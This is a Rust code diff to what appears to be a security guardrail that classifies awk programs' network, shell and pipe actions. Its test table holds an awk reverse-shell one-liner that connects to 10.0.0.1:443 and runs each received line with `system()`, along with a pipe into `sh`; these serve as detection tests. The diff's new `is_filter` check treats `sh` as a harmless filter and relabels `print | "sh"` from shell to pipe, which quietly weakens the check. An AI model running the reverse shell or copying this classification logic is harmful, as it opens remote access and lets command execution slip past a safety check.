@@ -237,7 +237,10 @@ impl<'t> Reader<'t> {
         };
         match command.as_deref().and_then(network) {
             Some(host) => self.push(Act::Network(host), start),
-            None => self.push(Act::Shell(command), start),
+            None => match command {
+                Some(command) if is_filter(&command) => self.push(Act::Pipe(command), start),
+                command => self.push(Act::Shell(command), start),
+            },
         }
     }
 
@@ -340,6 +343,20 @@ fn is_standard_stream(name: &[u8]) -> bool {
     )
 }
 
+/// Whether a command is a word with flags and numbers, so that it works on nothing but what it is handed
+/// (`sort -rn`, `date +%s`): behind another word it might take that for names (`xargs cat`).
+fn is_filter(command: &[u8]) -> bool {
+    let command = command.trim_ascii();
+    let command = command.strip_suffix(b"1>&2").or_else(|| command.strip_suffix(b">&2")).unwrap_or(command);
+    let plain = |byte: &u8| byte.is_ascii_alphanumeric() || b"-+%,.:_".contains(byte);
+    let mut words = command.split(u8::is_ascii_whitespace).filter(|word| !word.is_empty());
+    let name = words.next().is_some_and(|name| name.iter().all(|byte| plain(byte)));
+    name && words.all(|word| {
+        let flag = matches!(word, [b'-' | b'+', _, ..]) || word.iter().all(u8::is_ascii_digit);
+        flag && word.iter().all(plain)
+    })
+}
+
 #[cfg(test)]
 mod tests {
     use guardrail_schema::Language::Awk;
@@ -420,20 +437,20 @@ mod tests {
                 ("{print a,\n b > \"f\"}", &["write:f"]),
                 ("{print a ?\n b : c > \"f\"}", &["write:f"]),
                 ("{if (x) print > \"f\"; else print > \"g\"}", &["write:f", "write:g"]),
-                ("{print | \"sh\"}", &["shell:sh"]),
-                ("{print \"x\" | \"cat 1>&2\"}", &["shell:cat 1>&2"]),
+                ("{print | \"sh\"}", &["pipe:sh"]),
+                ("{print \"x\" | \"cat 1>&2\"}", &["pipe:cat 1>&2"]),
                 ("{printf(\"x\") | cmd}", &["shell:?"]),
-                ("{\"date\" | getline; print}", &["shell:date"]),
-                ("{while (\"date\" | getline d) print d}", &["shell:date"]),
+                ("{\"date\" | getline; print}", &["pipe:date"]),
+                ("{while (\"date\" | getline d) print d}", &["pipe:date"]),
                 ("{while ((\"da\" \"te\" | getline d) > 0) print d}", &["shell:?"]),
-                ("{while (((\"da\" \"te\") | getline d) > 0) print d}", &["shell:date"]),
-                ("{x = \"date\" | getline}", &["shell:date"]),
+                ("{while (((\"da\" \"te\") | getline d) > 0) print d}", &["pipe:date"]),
+                ("{x = \"date\" | getline}", &["pipe:date"]),
                 ("{x \"date\" | getline}", &["shell:?"]),
                 ("{\"a\" \"date\" | getline}", &["shell:?"]),
                 ("{close($0|getline)}", &["shell:?"]),
                 ("{print \"date\" | getline}", &["shell:?"]),
-                ("{\"sort\" |& getline}", &["shell:sort"]),
-                ("{print |& \"sort\"}", &["shell:sort"]),
+                ("{\"sort\" |& getline}", &["pipe:sort"]),
+                ("{print |& \"sort\"}", &["pipe:sort"]),
                 (
                     "BEGIN{s=\"/inet/tcp/0/10.0.0.1/443\"; while((s|&getline l)>0) system(l)}",
                     &["network:10.0.0.1", "shell:?", "shell:?"],
